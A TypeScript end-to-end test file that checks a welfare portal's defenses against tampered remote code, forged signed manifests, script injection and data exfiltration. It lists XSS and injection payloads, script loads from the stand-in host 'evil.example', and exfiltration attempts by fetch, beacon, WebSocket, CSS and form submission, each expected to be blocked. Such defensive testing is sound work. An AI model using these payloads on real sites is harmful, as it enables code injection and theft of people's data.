import { cpSync, globSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { operationFolders } from '@vungxanh/tools/operations'
import { buildOf, publishRemote, type Registry } from '@vungxanh/tools/portals'
import { makePublisherKey, publisherOf } from '@vungxanh/tools/publisher'
import type { Page, Route } from 'playwright-core'
import { expect, inject } from 'vitest'
import { test } from './browser.ts'
import { platform } from './platform.ts'

// What stands between code that got onto a page, or onto the way to it, and the people's data.

const retry = (page: Page) => page.getByRole('button', { name: 'Thử lại' }).first()

/** Welfare says that it is not available, and the rest of the page and of the platform works. */
async function expectOnlyWelfareAway(page: Page): Promise<void> {
  await page.goto('/an-sinh')
  await retry(page).waitFor({ timeout: 40_000 })
  expect(await page.evaluate(() => 'tampered' in window)).toBe(false)
  await page
    .getByRole('link', { name: /Tra cứu/ })
    .first()
    .click()
  await page.getByRole('heading', { name: 'Tra cứu người', level: 1 }).waitFor()
}

/** Answers with what the gateway sends, changed: as a proxy or a cache on the way would. */
function changing(change: (text: string) => string) {
  return async (route: Route): Promise<void> => {
    const response = await route.fetch()
    await route.fulfill({ response, body: change(await response.text()) })
  }
}

const evil = (text: string) => `window.tampered = true;${text}`

test('a tampered entry of a remote does not run', async ({ as, violations }) => {
  const page = await as('inspector')
  await page.route('**/remotes/welfare/*/remoteEntry.js*', changing(evil))
  await expectOnlyWelfareAway(page)
  expect(violations).toEqual([])
})

test('a tampered chunk of a remote does not run', async ({ as }) => {
  const page = await as('inspector')
  const asked: string[] = []
  await page.route('**/remotes/welfare/*/static/js/**', (route) => {
    asked.push(route.request().url())
    return changing(evil)(route)
  })
  await expectOnlyWelfareAway(page)
  expect(asked.length).toBeGreaterThan(0)
})

test('a manifest that was changed on the way, or signed by somebody else, opens nothing', async ({
  as,
  onTestFinished,
}) => {
  const page = await as('inspector')
  const manifest = '**/remotes/welfare/*/manifest.jws'
  const asText = (part: string) => Buffer.from(part, 'base64url').toString()
  await page.route(
    manifest,
    changing((jws) => {
      const [head, payload = '', signature] = jws.split('.')
      return `${head}.${Buffer.from(`${asText(payload)} `).toString('base64url')}.${signature}`
    }),
  )
  await expectOnlyWelfareAway(page)
  await page.unroute(manifest)

  const folder = mkdtempSync(join(tmpdir(), 'vungxanh-stranger-'))
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
  const stranger = makePublisherKey(join(folder, 'key.json'))
  await page.route(
    manifest,
    changing((jws) => stranger.sign(JSON.parse(asText(jws.split('.')[1] ?? '')))),
  )
  await expectOnlyWelfareAway(page)
  await page.unroute(manifest)
  await page.goto('/an-sinh')
  await page.getByRole('heading', { name: 'Hồ sơ hỗ trợ', level: 1 }).waitFor()
})

test('what was changed in the folder of the portals, or published by a stranger, is not even sent', async ({
  as,
  onTestFinished,
}) => {
  const page = await as('inspector')
  const folder = mkdtempSync(join(tmpdir(), 'vungxanh-stranger-'))
  const build = join(folder, 'build')
  cpSync(buildOf('welfare'), build, { recursive: true })
  writeFileSync(join(build, 'remoteEntry.js'), evil(readFileSync(join(build, 'remoteEntry.js'), 'utf8')))
  const portalsDir = inject('portalsDir')
  const publishGenuine = () => publishRemote(portalsDir, 'welfare', publisherOf(inject('dataDir'), undefined))
  onTestFinished(() => {
    publishGenuine()
    rmSync(folder, { recursive: true, force: true })
  })
  publishRemote(portalsDir, 'welfare', makePublisherKey(join(folder, 'key.json')), build)
  await expectOnlyWelfareAway(page)

  const { version } = publishGenuine()
  const entry = join(portalsDir, 'remotes/welfare', version, 'remoteEntry.js')
  const genuine = readFileSync(entry)
  writeFileSync(entry, evil(genuine.toString()))
  await expectOnlyWelfareAway(page)
  writeFileSync(entry, genuine)
  await page.goto('/an-sinh')
  await page.getByRole('heading', { name: 'Hồ sơ hỗ trợ', level: 1 }).waitFor()
})

/** What code on the page comes to. The debugger's own evaluation is freer than the page's, so it has a turn of its own. */
function attempt(page: Page, attack: string): Promise<string> {
  return page.evaluate(`new Promise((resolve) =>
    setTimeout(async () => {
      try {
        resolve('did: ' + (await (async () => { ${attack} })()))
      } catch (error) {
        resolve(error.name)
      }
    }))`)
}

test('code on the page makes no code: no inline script, no eval, no address that was not published', async ({
  as,
  violations,
}) => {
  const page = await as('inspector', '/ho-dan')
  await page.getByRole('heading', { name: 'Tra cứu người', level: 1 }).waitFor()
  const attacks: Record<string, string> = {
    eval: `eval('1')`,
    Function: `new Function('return 1')()`,
    'an inline script': `document.createElement('script').textContent = 'window.tampered = true'`,
    'markup with a handler': `document.body.innerHTML = '<img src=x onerror="window.tampered = true">'`,
    'markup beside an element': `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
    'a script of this origin that nobody signed': `document.createElement('script').src = '/remotes.json'`,
    'a script of another origin': `document.createElement('script').src = 'https://evil.example/x.js'`,
    'a script by attribute': `document.createElement('script').setAttribute('src', 'https://evil.example/x.js')`,
    'a style sheet that nobody signed': `document.createElement('link').href = '/remotes/x.css'`,
    'a worker': `new Worker('/remotes.json')`,
    'a worker of its own text': `new Worker(URL.createObjectURL(new Blob(['1'])))`,
    'an import': `await import("https://evil.example/x.js")`,
    'a policy of its own': `trustedTypes.createPolicy('evil', { createHTML: (text) => text })`,
    'another default policy': `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
    'the shell’s policy': `trustedTypes.createPolicy('vungxanh-builds', { createHTML: (text) => text })`,
    'an editor’s policy for scripts': `trustedTypes.createPolicy('tokenizeToString', { createScriptURL: (text) => text })
      .createScriptURL('https://evil.example/x.js')`,
  }
  const outcome: Record<string, string> = {}
  for (const [name, attack] of Object.entries(attacks)) outcome[name] = await attempt(page, attack)
  expect(outcome).toEqual(
    Object.fromEntries(
      Object.keys(attacks).map((name) => [name, expect.stringMatching(/^(Type|Eval|Security)Error$/)]),
    ),
  )
  expect(await page.evaluate(() => 'tampered' in window)).toBe(false)
  expect(violations.splice(0).length).toBeGreaterThan(0)
})

test('an inline script that somebody puts into the page on its way does not run', async ({ as, violations }) => {
  const page = await as('inspector')
  await page.route(
    (url) => url.pathname === '/ho-dan',
    changing((html) => html.replace('<head>', '<head><script>window.tampered = true</script>')),
  )
  await page.goto('/ho-dan')
  await page.getByRole('heading', { name: 'Tra cứu người', level: 1 }).waitFor()
  expect(await page.evaluate(() => 'tampered' in window)).toBe(false)
  expect(violations.splice(0).join()).toContain('inline')
})

test('code on the page sends nothing to another address', async ({ as, violations, onTestFinished }) => {
  const arrived: string[] = []
  const elsewhere = createServer((request, response) => {
    arrived.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end()
  }).listen(0, '127.0.0.1')
  onTestFinished(() => void elsewhere.close())
  await new Promise((resolve) => elsewhere.once('listening', resolve))
  const origin = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  const page = await as('inspector', '/ho-dan')
  await page.evaluate(async (to) => {
    await fetch(`${to}/fetch`, { method: 'POST', body: 'secret' }).catch(() => {})
    await fetch(`${to}/no-cors`, { mode: 'no-cors' }).catch(() => {})
    navigator.sendBeacon(`${to}/beacon`, 'secret')
    new Image().src = `${to}/image`
    new EventSource(`${to}/events`)
    try {
      new WebSocket(`${to.replace('http', 'ws')}/socket`)
    } catch {}
    const style = document.createElement('style')
    style.textContent = `@font-face { font-family: x; src: url(${to}/font) } body { font-family: x; background: url(${to}/background) } @import url(${to}/import);`
    document.head.append(style)
    const frame = document.createElement('iframe')
    frame.setAttribute('src', `${to}/frame`)
    const media = document.createElement('video')
    media.setAttribute('src', `${to}/video`)
    const prefetch = document.createElement('link')
    prefetch.setAttribute('rel', 'prefetch')
    prefetch.setAttribute('href', `${to}/prefetch`)
    document.body.append(frame, media, prefetch)
    const form = document.createElement('form')
    form.method = 'post'
    form.action = `${to}/form`
    document.body.append(form)
    form.submit()
    await new Promise((resolve) => setTimeout(resolve, 1_500))
  }, origin)
  expect(arrived).toEqual([])
  await fetch(`${origin}/here`)
  expect(arrived).toEqual(['/here'])
  expect(violations.splice(0).length).toBeGreaterThan(5)
})

test('code on the page asks the graph nothing but what its portals published', async ({ as }) => {
  const page = await as('chair', '/ho-dan')
  const answer = await page.evaluate(async () => {
    const response = await fetch('/graphql', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query: '{ people(unit: "00121", first: 100) { edges { node { fullName } } } }' }),
    })
    return { status: response.status, text: await response.text() }
  })
  expect(answer.status).toBe(400)
  expect(answer.text).toContain('DOCUMENT_NOT_TRUSTED')
})

test('what a portal was published with is what its code asks, no more and no less', async () => {
  const { remotes } = (await (await fetch(`${platform().url}/remotes.json`)).json()) as Registry
  const names = (text: string) => [...text.matchAll(/\b(?:query|mutation) ([A-Z]\w*)\s*[({]/g)].map((match) => match[1])
  const portals = operationFolders()
    .map(({ portal }) => portal)
    .filter((portal) => portal !== 'remote')
  expect(Object.keys(remotes).concat('shell').sort()).toEqual(portals.sort())
  let total = 0
  for (const portal of portals) {
    const place = portal === 'shell' ? 'shell' : join('remotes', portal, remotes[portal]?.version ?? '')
    const folder = join(inject('portalsDir'), place)
    // The analyst's editor brings documents of its own, as examples; the analyst asks freely.
    if (portal === 'analyst') continue
    const published = JSON.parse(readFileSync(join(folder, 'documents.json'), 'utf8')) as Record<string, string>
    const asked = globSync('**/*.js', { cwd: folder }).flatMap((file) =>
      names(readFileSync(join(folder, file), 'utf8')),
    )
    expect([...new Set(asked)].sort(), portal).toEqual(Object.values(published).flatMap(names).sort())
    total += asked.length
  }
  expect(total).toBeGreaterThan(30)
})

test('a page that carries a published document is told when it is too old', async ({ as }) => {
  const page = await as('chair', '/ho-dan')
  await page.route('**/graphql', (route) => {
    const body = JSON.parse(route.request().postData() ?? '{}')
    expect(body).not.toHaveProperty('query')
    expect(body.documentId).toMatch(/^sha256:[0-9a-f]{64}$/)
    return route.continue({ postData: JSON.stringify({ ...body, documentId: `sha256:${'0'.repeat(64)}` }) })
  })
  await page.goto('/chi-huy')
  await page.getByText('tải lại trang', { exact: false }).first().waitFor()
})
